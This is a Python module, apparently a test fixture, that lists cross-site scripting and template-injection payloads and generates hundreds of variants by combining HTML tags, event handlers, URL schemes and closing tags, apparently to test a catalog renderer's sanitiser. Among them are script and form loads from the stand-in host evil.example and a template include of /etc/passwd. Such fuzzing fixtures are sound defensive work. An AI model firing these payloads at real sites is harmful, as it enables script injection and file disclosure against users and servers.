"""Texts by which a catalog might try to be more than text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>*{display:none}</style>",
    '<p style="background:url(//evil.example)">',
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<a href=//evil.example>x</a>",
    "<a onclick=alert(1)>x",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "![x](x onerror=alert(1))",
    '![x"onerror="alert(1)](x.svg)',
    '[x](https://a.example/"onclick="alert(1))',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!-- --><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<?php x ?><!DOCTYPE x>",
    "<script",
    "</main></body></html>",
    "</p><div>x",
    "<kbd onclick=alert(1)>x</kbd>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "{% raw %}",
    "${7*7} #{7*7} %(x)999999999s {0.__class__}",
    '#read("x") #eval("1")',
    "\u202e<script>\u2066",
    "<sub><sup><sub>",
    "&#123;clinic.fax}",
    "&#123;no.such}",
]

_RUNS = "alert(1)"
_TAGS = ("img", "svg", "body", "input", "video", "audio", "details", "marquee", "iframe", "math", "object", "button")
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin", "onstart", "onloadstart",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java&#x09;script:", "&#106;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,", "data:image/svg+xml,", "jar:", "view-source:", "blob:",
    "//", "\\\\\\\\", "/\\", "feed:javascript:", "filesystem:", "file:///",
)  # fmt: skip
_FRAMES = ("[x]({})", "[x](<{}>)", "![x]({})", "<a href={}>x</a>", '<a href="{}">x', "<{}>", "[x]: {}\n\n[x]")
_ENDINGS = (
    "</p>",
    "</title>",
    "</style>",
    "</textarea>",
    "</svg>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    "</li></ul>",
    "\0>",
)
_MARKUP = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script/x>{}</script>", "<<script>{}//<</script>",
    "<style>@import '//evil.example'</style>{}", "<svg><use href='data:image/svg+xml,{}'/></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip


def many_payloads() -> Iterator[str]:
    """Handlers on tags, schemes in links, ends of whatever a text may stand in: by the hundred."""
    yield from PAYLOADS
    yield from (f"<{tag} src=x {handler}={_RUNS}>" for tag, handler in product(_TAGS, _HANDLERS))
    yield from (frame.format(f"{scheme}{_RUNS}") for frame, scheme in product(_FRAMES, _SCHEMES))
    yield from (ending + markup.format(_RUNS) for ending, markup in product(_ENDINGS, _MARKUP))
